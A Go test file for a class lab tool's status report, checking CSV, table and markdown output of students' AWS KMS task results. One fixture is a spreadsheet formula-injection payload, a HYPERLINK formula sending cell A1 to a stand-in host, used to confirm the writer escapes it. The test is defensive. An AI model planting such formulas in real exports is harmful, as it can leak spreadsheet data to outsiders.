package status

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kms-lab/kms-lab/internal/labctl/class"
)

// TestWriteCSV: class status --format csv, read back with a real CSV
// reader (encoding/csv, RFC 4180), has docs/report.md's header and one line
// per account: each task's status in the report's words, tasks passed out
// of the total, when it was checked. Names with commas, quotes and
// non-ASCII letters come back whole; a cell that starts with =, +, - or @
// comes back with a single quote in front, so a spreadsheet shows it as
// text instead of running it (OWASP, "CSV Injection").
func TestWriteCSV(t *testing.T) {
	at := time.Date(2026, 11, 27, 10, 45, 0, 0, time.UTC)
	cells := func(statuses ...Status) []Cell {
		var out []Cell
		for i, s := range statuses {
			out = append(out, Cell{Column: "task" + string(rune('1'+i)), Status: s})
		}
		return out
	}
	pass, fail, unknown := StatusPass, StatusFail, StatusUnknown
	r := &Result{Class: "kms101", Mode: class.ByHand, GeneratedAt: at, Columns: Columns(class.ByHand), Accounts: []Row{
		{Stack: "kms101-acct01", Student: &class.Student{Name: "Okafor, Ada", Email: "ada@example.edu", ID: "s1001"}, Account: "111122223333", Region: "us-west-2",
			Cells: cells(pass, pass, pass, pass, pass, pass)},
		{Stack: "kms101-acct02", Student: &class.Student{Name: `Zoë "Zo" Ångström`, Email: "zoe@example.edu", ID: "-7"}, Account: "222233334444", Region: "us-west-2",
			Cells: cells(pass, fail, fail, fail, unknown, unknown)},
		{Stack: "kms101-acct03", Student: &class.Student{Name: `=HYPERLINK("http://x.example/?"&A1,"click")`, Email: "@evil", ID: "+1"}, Account: "333344445555", Region: "eu-west-1",
			Cells: cells(pass, pass, fail, pass, pass, pass)},
		// Not reached: every task "error", as the table marks it.
		{Stack: "kms101-acct04", Account: "444455556666", Region: "us-west-2", Error: "no AWS credentials found", Cells: []Cell{}},
	}}
	r.Tally()
	var b bytes.Buffer
	require.NoError(t, Write(&b, r, "csv"))
	written := b.String()

	rd := csv.NewReader(&b)
	rd.FieldsPerRecord = 0 // every line as long as the header
	got, err := rd.ReadAll()
	require.NoError(t, err, written)
	assert.Equal(t, [][]string{
		{"stack", "student", "email", "student_id", "account", "region", "task1", "task2", "task3", "task4", "task5", "task6", "passed", "total", "checked_at"},
		{"kms101-acct01", "Okafor, Ada", "ada@example.edu", "s1001", "111122223333", "us-west-2", "pass", "pass", "pass", "pass", "pass", "pass", "6", "6", "2026-11-27T10:45:00Z"},
		{"kms101-acct02", `Zoë "Zo" Ångström`, "zoe@example.edu", "'-7", "222233334444", "us-west-2", "pass", "fail", "fail", "fail", "unknown", "unknown", "1", "6", "2026-11-27T10:45:00Z"},
		{"kms101-acct03", `'=HYPERLINK("http://x.example/?"&A1,"click")`, "'@evil", "'+1", "333344445555", "eu-west-1", "pass", "pass", "fail", "pass", "pass", "pass", "5", "6", "2026-11-27T10:45:00Z"},
		{"kms101-acct04", "", "", "", "444455556666", "us-west-2", "error", "error", "error", "error", "error", "error", "0", "6", "2026-11-27T10:45:00Z"},
	}, got)
	// RFC 4180 section 2: fields with commas or quotes are quoted, quotes
	// doubled; the bytes, not only what a reader makes of them.
	assert.Contains(t, written, `,"Okafor, Ada",`)
	assert.Contains(t, written, `,"Zoë ""Zo"" Ångström",`)
}

// Without a roster there is no student column; deployed mode's columns are
// verify's check groups.
func TestWriteCSVDeployedNoRoster(t *testing.T) {
	r := &Result{Class: "kms101", Mode: class.Deployed, GeneratedAt: time.Date(2026, 11, 27, 10, 45, 0, 0, time.UTC), Columns: Columns(class.Deployed),
		Accounts: []Row{{Stack: "kms101-acct01", Account: "111122223333", Region: "us-west-2", Cells: []Cell{
			{Column: "key", Status: StatusPass}, {Column: "bucket", Status: StatusPass}, {Column: "trail", Status: StatusFail}, {Column: "object", Status: StatusPass}}}}}
	r.Tally()
	var b bytes.Buffer
	require.NoError(t, Write(&b, r, "csv"))
	got, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, [][]string{
		{"stack", "account", "region", "key", "bucket", "trail", "object", "passed", "total", "checked_at"},
		{"kms101-acct01", "111122223333", "us-west-2", "pass", "pass", "fail", "pass", "3", "4", "2026-11-27T10:45:00Z"},
	}, got)
}

// With a roster, the table and its details name the student beside the
// stack.
func TestWriteTableRoster(t *testing.T) {
	r := &Result{Class: "kms101", Mode: class.ByHand, GeneratedAt: time.Date(2026, 11, 27, 10, 45, 0, 0, time.UTC),
		Columns: []Column{{ID: "task1", Title: "1 Create your KMS master key"}},
		Accounts: []Row{
			{Stack: "kms101-acct01", Student: &class.Student{Name: "Okafor, Ada"}, Account: "111122223333", Region: "us-west-2",
				Cells: []Cell{{Column: "task1", Status: StatusFail, Details: []string{"key.exists: no key with alias myFirstKey"}}}},
			{Stack: "kms101-acct02", Account: "222233334444", Region: "us-west-2", Cells: []Cell{{Column: "task1", Status: StatusPass}}},
		}}
	r.Tally()
	var b bytes.Buffer
	require.NoError(t, Write(&b, r, "table"))
	assert.Equal(t, `class kms101, by-hand mode, 2026-11-27T10:45:00Z: 1 of 2 accounts pass
STACK          STUDENT      ACCOUNT       REGION     TASK1
kms101-acct01  Okafor, Ada  111122223333  us-west-2  fail
kms101-acct02  -            222233334444  us-west-2  pass
PASS                                                 1/2
kms101-acct01 (Okafor, Ada) task1: key.exists: no key with alias myFirstKey
`, b.String())
	b.Reset()
	require.NoError(t, Write(&b, r, "markdown"))
	assert.Contains(t, b.String(), "| stack | student | account |")
	assert.Contains(t, b.String(), "| kms101-acct01 | Okafor, Ada | 111122223333 |")
	assert.Contains(t, b.String(), "- **kms101-acct01 (Okafor, Ada)** task1: key.exists")
}
